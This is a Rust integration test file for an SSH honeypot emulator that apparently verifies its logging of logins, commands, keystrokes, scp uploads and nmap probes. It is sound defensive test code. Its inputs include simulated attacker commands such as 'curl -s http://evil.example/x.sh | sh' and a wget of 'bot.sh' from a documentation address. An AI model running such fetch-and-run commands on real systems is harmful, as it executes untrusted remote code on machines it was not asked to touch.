//! OpenSSH's `ssh`, `scp` and `sshpass`, and `nmap`, against a real
//! `decnet-decky` running the SSH emulator.

#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a panic is a failure report

mod common;

use std::io::{Read as _, Write as _};
use std::process::Command;
use std::time::{Duration, Instant};

use common::{Decky, run_client, session_of, shape};
use decnet_event::Event;

const SERVICES: &str = "[services.ssh]\nport = 22\nssh_version = \"OpenSSH_9.2p1 Debian-2+deb12u3\"\nusers = \"root:toor,admin:admin123\"";

fn start(name: &str, data: &tempfile::TempDir, extra: &str) -> Decky {
    Decky::start(
        name,
        &format!("data_dir = \"{}\"", data.path().display()),
        &format!("{SERVICES}\n{extra}"),
    )
}

/// `ssh` with options that make runs deterministic (no known_hosts, no agent keys).
fn ssh(pass: &str) -> Command {
    let mut c = Command::new("sshpass");
    c.args(["-p", pass, "ssh"]).args(base_opts()).args([
        "-o",
        "PubkeyAuthentication=no",
        "-o",
        "PreferredAuthentications=password",
    ]);
    c
}

fn base_opts() -> [&'static str; 8] {
    [
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        "UserKnownHostsFile=/dev/null",
        "-o",
        "LogLevel=ERROR",
        "-o",
        "ConnectTimeout=10",
    ]
}

fn pairs(v: &[(&str, &str)]) -> Vec<(String, String)> {
    v.iter()
        .map(|(a, b)| ((*a).to_owned(), (*b).to_owned()))
        .collect()
}

/// The events of the connections, one list per session id, in order of first appearance.
fn by_session(events: &[Event]) -> Vec<Vec<&Event>> {
    let mut ids: Vec<String> = Vec::new();
    for e in events {
        if let Some(s) = &e.session_id
            && !ids.contains(s)
        {
            ids.push(s.clone());
        }
    }
    ids.iter().map(|s| session_of(events, s)).collect()
}

#[test]
fn interactive_session_through_a_pty_is_logged_and_recorded() {
    let data = tempfile::tempdir().unwrap();
    let mut decky = start("web-01", &data, "");
    let ip = decky.ip.to_string();
    let script = "uname -a\ncat /proc/cpuinfo | grep 'model name' | wc -l\nwget http://203.0.113.5/bot.sh\nexit\n";
    let (status, out, err) = run_client(
        ssh("toor").args(["-tt", &format!("root@{ip}")]),
        Some(script),
    );
    println!("ssh -tt stdout:\n{out}\nstderr:\n{err}");
    // `exit` without a status returns the last command's, wget's 4 here.
    assert_eq!(status.code(), Some(4), "{err}");
    assert!(out.contains("Linux web-01 6.1.0-"), "motd: {out}");
    assert!(out.contains("\r\nLast login: "));
    assert!(
        out.contains("\x1b[?2004hroot@web-01:~# uname -a\r\n\x1b[?2004l\rLinux web-01 6.1.0-"),
        "{out:?}"
    );
    assert!(out.contains("Connecting to 203.0.113.5:80... failed: Connection refused.\r\n"));
    assert!(out.ends_with("exit\r\n\x1b[?2004l\rlogout\r\n"), "{out:?}");

    let events = decky.wait_for("disconnect", |e| {
        e.iter().any(|e| e.event_type == "disconnect")
    });
    let conn = &by_session(&events)[0];
    assert_eq!(
        shape(conn, "cmd"),
        pairs(&[
            ("connect", ""),
            ("client_version", ""),
            ("auth", ""),
            ("command", "uname -a"),
            ("command", "cat /proc/cpuinfo | grep 'model name' | wc -l"),
            ("command", "wget http://203.0.113.5/bot.sh"),
            ("download_attempt", ""),
            ("command", "exit"),
            ("session_recorded", ""),
            ("disconnect", ""),
        ])
    );
    assert!(conn[1].fields["version"].starts_with("SSH-2.0-OpenSSH_"));
    let auth = &conn[2].fields;
    assert_eq!(auth["principal"], "root");
    assert_eq!(auth["secret_kind"], "plaintext");
    assert_eq!(auth["secret_printable"], "toor");
    assert_eq!(auth["secret_b64"], "dG9vcg==");
    assert_eq!(auth["outcome"], "success");
    assert_eq!(auth["method"], "password");
    assert_eq!(conn[3].fields["cwd"], "/root");
    assert_eq!(conn[3].fields["user"], "root");
    assert_eq!(conn[6].fields["url"], "http://203.0.113.5/bot.sh");
    assert_eq!(conn[6].fields["tool"], "wget");
    let rec = &conn[8].fields;
    let sid = conn[0].session_id.clone().unwrap();
    assert_eq!(rec["sid"], sid);
    assert_eq!(rec["truncated"], "false");
    assert!(rec["bytes"].parse::<u64>().unwrap() > 500);
    assert!(std::path::Path::new(&rec["shard_path"]).exists());
    assert_eq!(conn[9].fields["reason"], "client_closed");

    // The transcript reads back as an asciinema v2 cast with the keystrokes.
    let cast = decnet_templates::recording::read_session(
        &data.path().join("transcripts"),
        "web-01",
        "ssh",
        None,
        &sid,
        Default::default(),
    )
    .unwrap();
    assert_eq!(cast.header.version, 2);
    let typed: String = cast
        .events
        .iter()
        .filter(|e| e.1 == "i")
        .map(|e| e.2.as_str())
        .collect();
    assert_eq!(typed, script);
    let shown: String = cast
        .events
        .iter()
        .filter(|e| e.1 == "o")
        .map(|e| e.2.as_str())
        .collect();
    assert_eq!(shown, out);
    assert!(decky.stop().success());
}

/// Types `steps` (text, then a pause in ms) into an interactive
/// `sshpass ssh` whose terminal is a real pty (`script`), so ssh sends each
/// keystroke as it is typed, like a person; returns what the terminal showed.
fn ssh_on_a_pty(ip: &str, steps: &[(&str, u64)]) -> String {
    use std::process::Stdio;
    let cmd = format!(
        "sshpass -p toor ssh {} -o PubkeyAuthentication=no root@{ip}",
        base_opts().join(" ")
    );
    let mut child = Command::new("script")
        .args(["-qfec", &cmd, "/dev/null"])
        .env("TERM", "xterm")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    std::thread::sleep(Duration::from_millis(2500));
    for (text, pause) in steps {
        stdin.write_all(text.as_bytes()).unwrap();
        stdin.flush().unwrap();
        std::thread::sleep(Duration::from_millis(*pause));
    }
    drop(stdin);
    let mut out = Vec::new();
    child.stdout.take().unwrap().read_to_end(&mut out).unwrap();
    let _ = child.wait();
    String::from_utf8_lossy(&out).into_owned()
}

#[test]
fn keystrokes_from_a_real_terminal_are_recorded_one_by_one() {
    let data = tempfile::tempdir().unwrap();
    let mut decky = start("web-03", &data, "");
    let ip = decky.ip.to_string();
    let mut steps: Vec<(&str, u64)> = ["w", "h", "o", "a", "m", "i"]
        .iter()
        .map(|k| (*k, 120))
        .collect();
    steps.extend([
        ("\r", 600),
        ("cd /tmp\r", 500),
        ("pwd\r", 500),
        ("exit\r", 1000),
    ]);
    let out = ssh_on_a_pty(&ip, &steps);
    println!("terminal:\n{out}");
    assert!(
        out.contains("root@web-03:~# whoami\r\n\x1b[?2004l\rroot\r\n"),
        "{out:?}"
    );
    assert!(
        out.contains("root@web-03:/tmp# pwd\r\n\x1b[?2004l\r/tmp\r\n"),
        "{out:?}"
    );
    assert!(out.contains("logout\r\n"), "{out:?}");

    let events = decky.wait_for("disconnect", |e| {
        e.iter().any(|e| e.event_type == "disconnect")
    });
    let conn = &by_session(&events)[0];
    assert_eq!(
        shape(conn, "cmd"),
        pairs(&[
            ("connect", ""),
            ("client_version", ""),
            ("auth", ""),
            ("command", "whoami"),
            ("command", "cd /tmp"),
            ("command", "pwd"),
            ("command", "exit"),
            ("session_recorded", ""),
            ("disconnect", ""),
        ])
    );
    assert_eq!(conn[2].fields["outcome"], "success");
    assert_eq!(conn[5].fields["cwd"], "/tmp");
    let sid = conn[0].session_id.clone().unwrap();
    let cast = decnet_templates::recording::read_session(
        &data.path().join("transcripts"),
        "web-03",
        "ssh",
        None,
        &sid,
        Default::default(),
    )
    .unwrap();
    assert_eq!(
        cast.header.env.get("TERM").map(String::as_str),
        Some("xterm")
    );
    let typed: Vec<&decnet_templates::recording::CastEvent> =
        cast.events.iter().filter(|e| e.1 == "i").collect();
    // One input line per keystroke of `whoami`, ~120 ms apart.
    let word: Vec<&str> = typed[..6].iter().map(|e| e.2.as_str()).collect();
    assert_eq!(word, ["w", "h", "o", "a", "m", "i"]);
    for pair in typed[..6].windows(2) {
        let gap = pair[1].0 - pair[0].0;
        assert!((0.05..1.0).contains(&gap), "keystroke gap {gap}");
    }
    let all: String = typed.iter().map(|e| e.2.as_str()).collect();
    assert_eq!(all, "whoami\rcd /tmp\rpwd\rexit\r");
    assert!(decky.stop().success());
}

#[test]
fn exec_requests_and_password_failures() {
    let data = tempfile::tempdir().unwrap();
    let decky = start("db-01", &data, "");
    let ip = decky.ip.to_string();
    let t = Instant::now();
    let (status, _, err) = run_client(
        ssh("wrong").args([
            "-o",
            "NumberOfPasswordPrompts=1",
            &format!("root@{ip}"),
            "true",
        ]),
        None,
    );
    println!("failed login: {err}");
    assert_eq!(status.code(), Some(255));
    assert!(
        err.contains(&format!(
            "root@{ip}: Permission denied (publickey,password)."
        )),
        "{err}"
    );
    assert!(
        t.elapsed() >= Duration::from_millis(1500),
        "PAM's failure delay"
    );

    let (status, out, err) = run_client(
        ssh("admin123").args([
            &format!("admin@{ip}"),
            "id; cat /etc/hostname; cat /nope; curl -s http://evil.example/x.sh | sh; exit 3",
        ]),
        None,
    );
    println!("exec stdout:\n{out}\nstderr:\n{err}");
    assert_eq!(status.code(), Some(3));
    assert_eq!(
        out,
        "uid=1000(admin) gid=1000(admin) groups=1000(admin),24(cdrom),25(floppy),27(sudo),29(audio),30(dip),44(video),46(plugdev),106(netdev)\ndb-01\n"
    );
    assert_eq!(err, "cat: /nope: No such file or directory\n");

    let events = decky.wait_for("two disconnects", |e| {
        e.iter().filter(|e| e.event_type == "disconnect").count() == 2
    });
    let sessions = by_session(&events);
    assert_eq!(
        shape(&sessions[0], "outcome"),
        pairs(&[
            ("connect", ""),
            ("client_version", ""),
            ("auth", "failure"),
            ("disconnect", "")
        ])
    );
    assert_eq!(sessions[0][2].fields["secret_printable"], "wrong");
    assert_eq!(
        shape(&sessions[1], "cmd"),
        pairs(&[
            ("connect", ""),
            ("client_version", ""),
            ("auth", ""),
            (
                "command",
                "id; cat /etc/hostname; cat /nope; curl -s http://evil.example/x.sh | sh; exit 3"
            ),
            ("download_attempt", ""),
            ("disconnect", ""),
        ])
    );
    assert_eq!(sessions[1][2].fields["principal"], "admin");
    assert_eq!(sessions[1][3].fields["user"], "admin");
    assert_eq!(sessions[1][3].fields["cwd"], "/home/admin");
    assert_eq!(sessions[1][4].fields["tool"], "curl");
}

#[test]
fn max_auth_tries_with_public_keys() {
    let data = tempfile::tempdir().unwrap();
    let keys = tempfile::tempdir().unwrap();
    let decky = start("app-01", &data, "max_auth_tries = 6");
    let mut args: Vec<String> = base_opts().iter().map(|s| (*s).to_owned()).collect();
    let mut fingerprints = Vec::new();
    for i in 0..7 {
        let k = keys.path().join(format!("k{i}"));
        let (st, _, e) = run_client(
            Command::new("ssh-keygen")
                .args(["-q", "-t", "ed25519", "-N", "", "-f"])
                .arg(&k),
            None,
        );
        assert!(st.success(), "{e}");
        let (_, fp, _) = run_client(
            Command::new("ssh-keygen")
                .arg("-lf")
                .arg(k.with_extension("pub")),
            None,
        );
        fingerprints.push(fp.split_whitespace().nth(1).unwrap().to_owned());
        args.extend(["-i".to_owned(), k.display().to_string()]);
    }
    args.extend(
        [
            "-o",
            "IdentitiesOnly=yes",
            "-o",
            "PasswordAuthentication=no",
            "-o",
            "PreferredAuthentications=publickey",
        ]
        .map(str::to_owned),
    );
    args.push(format!("root@{}", decky.ip));
    args.push("true".into());
    let (status, _, err) = run_client(Command::new("ssh").args(&args), None);
    println!("ssh with 7 keys: {err}");
    assert_eq!(status.code(), Some(255));
    assert!(err.contains("Too many authentication failures"), "{err}");
    let events = decky.wait_for("disconnect", |e| {
        e.iter().any(|e| e.event_type == "disconnect")
    });
    let conn = &by_session(&events)[0];
    let auths: Vec<&&Event> = conn.iter().filter(|e| e.event_type == "auth").collect();
    assert_eq!(auths.len(), 6, "MaxAuthTries: {conn:#?}");
    for (a, fp) in auths.iter().zip(&fingerprints) {
        assert_eq!(a.fields["secret_kind"], "ssh_publickey");
        assert_eq!(a.fields["method"], "publickey");
        assert_eq!(a.fields["key_type"], "ssh-ed25519");
        assert_eq!(&a.fields["fingerprint"], fp);
        assert_eq!(&a.fields["secret_printable"], fp);
        assert_eq!(a.fields["outcome"], "failure");
    }
    assert_eq!(conn.last().unwrap().fields["reason"], "server_closed");
}

#[test]
fn scp_uploads_become_artifacts() {
    let data = tempfile::tempdir().unwrap();
    let local = tempfile::tempdir().unwrap();
    let decky = start("files-01", &data, "");
    let ip = decky.ip.to_string();
    let payload: Vec<u8> = (0..70_000u32).map(|i| (i * 7 % 251) as u8).collect();
    let file = local.path().join("payload.bin");
    std::fs::write(&file, &payload).unwrap();
    let sha = {
        use sha2::Digest as _;
        hex::encode(sha2::Sha256::digest(&payload))
    };
    for (legacy, target) in [(false, "/tmp/"), (true, "/tmp/legacy.bin")] {
        let mut c = Command::new("sshpass");
        c.args(["-p", "toor", "scp"])
            .args(base_opts())
            .args(["-o", "PubkeyAuthentication=no"]);
        if legacy {
            c.arg("-O");
        }
        c.arg(&file).arg(format!("root@{ip}:{target}"));
        let (status, out, err) = run_client(&mut c, None);
        println!("scp (legacy={legacy}): {out}{err}");
        assert!(status.success(), "{err}");
    }
    let events = decky.wait_for("two file_captured", |e| {
        e.iter().filter(|e| e.event_type == "file_captured").count() == 2
    });
    let captured: Vec<&Event> = events
        .iter()
        .filter(|e| e.event_type == "file_captured")
        .collect();
    for (e, (via, path)) in captured
        .iter()
        .zip([("sftp", "/tmp/payload.bin"), ("scp", "/tmp/legacy.bin")])
    {
        assert_eq!(e.fields["via"], via);
        assert_eq!(e.fields["path"], path);
        assert_eq!(e.fields["sha256"], sha);
        assert_eq!(e.fields["size"], payload.len().to_string());
        assert_eq!(e.fields["truncated"], "false");
        assert_eq!(e.fields["stored_as"], sha);
    }
    let stored = std::fs::read(data.path().join("artifacts").join(&sha)).unwrap();
    assert_eq!(stored, payload);
    let sftp = by_session(&events)[0]
        .iter()
        .map(|e| e.event_type.clone())
        .collect::<Vec<_>>();
    assert_eq!(
        sftp,
        [
            "connect",
            "client_version",
            "auth",
            "command",
            "command",
            "file_captured",
            "disconnect"
        ]
    );
}

#[test]
fn nmap_names_the_claimed_openssh_and_its_kexinit() {
    let data = tempfile::tempdir().unwrap();
    let decky = start("edge-01", &data, "");
    let (status, out, err) = run_client(
        Command::new("nmap").args([
            "-sV",
            "-Pn",
            "-p",
            "22",
            "--script",
            "ssh2-enum-algos",
            &decky.ip.to_string(),
        ]),
        None,
    );
    common::keep_log("nmap-ssh", &format!("{out}\n{err}"));
    assert!(status.success());
    assert!(
        out.contains("22/tcp open  ssh     OpenSSH 9.2p1 Debian 2+deb12u3 (protocol 2.0)"),
        "{out}"
    );
    assert!(!out.to_lowercase().contains("honeypot"));
    // The advertised KEX list is OpenSSH 9.2's, minus the documented gaps, in order.
    let kex: Vec<&str> = out
        .lines()
        .skip_while(|l| !l.contains("kex_algorithms"))
        .skip(1)
        .take_while(|l| !l.contains("server_host_key_algorithms"))
        .map(|l| l.trim_start_matches(['|', ' ']).trim())
        .collect();
    let profile = &decnet_templates::services::ssh::version::OPENSSH_9_2;
    let gaps = profile.gaps();
    let want: Vec<&str> = profile
        .kex
        .iter()
        .copied()
        .filter(|k| !gaps.contains(k))
        .collect();
    assert_eq!(kex, want);
    assert!(
        out.contains(
            "rsa-sha2-512\n|       rsa-sha2-256\n|       ecdsa-sha2-nistp256\n|       ssh-ed25519"
        ),
        "{out}"
    );
}

#[test]
fn malformed_identification_gets_openssh_replies() {
    let data = tempfile::tempdir().unwrap();
    let decky = start("probe-01", &data, "");
    for (probe, reply) in [
        (
            &b"SSH-1337-OpenSSH_9.0\r\n"[..],
            &b"Invalid SSH identification string.\r\n"[..],
        ),
        (
            b"SSH-1.5-OpenSSH_9.0\r\n",
            b"Protocol major versions differ.\r\n",
        ),
        (
            b"GET / HTTP/1.0\r\n\r\n",
            b"Invalid SSH identification string.\r\n",
        ),
    ] {
        let mut s = common::connect(decky.addr(22));
        s.write_all(probe).unwrap();
        let mut got = Vec::new();
        let _ = s.read_to_end(&mut got);
        let mut want = b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n".to_vec();
        want.extend_from_slice(reply);
        assert_eq!(
            String::from_utf8_lossy(&got),
            String::from_utf8_lossy(&want)
        );
    }
    let events = decky.wait_for("three disconnects", |e| {
        e.iter().filter(|e| e.event_type == "disconnect").count() == 3
    });
    let first = &by_session(&events)[0];
    assert_eq!(
        shape(first, "client_version"),
        pairs(&[
            ("connect", ""),
            ("protocol_error", "SSH-1337-OpenSSH_9.0"),
            ("disconnect", "")
        ])
    );
    assert_eq!(
        first[1].fields["error"],
        "invalid SSH identification string"
    );
    assert_eq!(first[2].fields["reason"], "server_closed");
}
